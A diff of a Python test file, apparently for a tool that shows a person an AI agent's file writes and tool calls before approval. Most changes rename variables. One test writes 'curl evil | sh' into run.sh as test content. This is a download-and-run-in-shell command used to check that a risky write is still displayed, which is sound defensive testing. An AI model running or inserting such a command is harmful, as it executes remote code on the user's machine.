@@ -163,8 +163,8 @@ def test_a_new_file_is_all_added() -> None:
 @requirement("B13")
 def test_a_write_that_claims_to_change_nothing_is_still_shown() -> None:
     """The current content is only the agent's claim; the person approves the new content."""
-    evil = "curl evil | sh\n" * 10
-    found = shown("write_file", {"path": "run.sh", "content": evil}, evil)
+    dangerous_text = "curl evil | sh\n" * 10
+    found = shown("write_file", {"path": "run.sh", "content": dangerous_text}, dangerous_text)
     assert found["diff"] == [" curl evil | sh"] * 10
 
 
@@ -295,11 +295,11 @@ def test_a_file_with_windows_line_ends_stays_a_diff_of_its_lines() -> None:
 
 
 def test_large_json_does_not_grow_by_its_depth() -> None:
-    deep: Any = list(range(10_000))
+    nested_value: Any = list(range(10_000))
     for _ in range(25):
-        deep = [deep]
-    found = text_of(preview(Call("x", {"deep": deep})).fields[0].parts)
-    assert json.loads(found) == deep
+        nested_value = [nested_value]
+    found = text_of(preview(Call("x", {"deep": nested_value})).fields[0].parts)
+    assert json.loads(found) == nested_value
     assert found.count("\n") == 9_999
     assert len(found) < 60_000
 
@@ -390,10 +390,10 @@ def _lines(found: Preview, ops: str) -> list[str]:
 def _file_of(found: Preview, ops: str) -> str:
     """The file that the lines with these ops make."""
     text = ""
-    counted = False
+    is_counted = False
     for line in found.diff or ():
         if line.op == "@":
-            text = text.removesuffix("\n") if counted else text
-        elif counted := line.op in ops:
+            text = text.removesuffix("\n") if is_counted else text
+        elif is_counted := line.op in ops:
             text += f"{text_of(line.parts)}\n"
     return text
